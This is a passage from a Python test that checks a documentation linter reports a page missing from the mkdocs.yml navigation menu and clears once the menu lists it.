        "nav:\n  - index.md\n  - About:\n      - Old: about/old.md\n", encoding="utf-8"
    )
    (found,) = prose.problems(docs, {}, OWNED, ())
    assert str(found).startswith("docs/about/new.md:1: the page is not in the menu")
    (tmp_path / "mkdocs.yml").write_text("nav:\n  - About:\n      - New: about/new.md\n", encoding="utf-8")
    assert prose.problems(docs, {}, OWNED, ()) == []
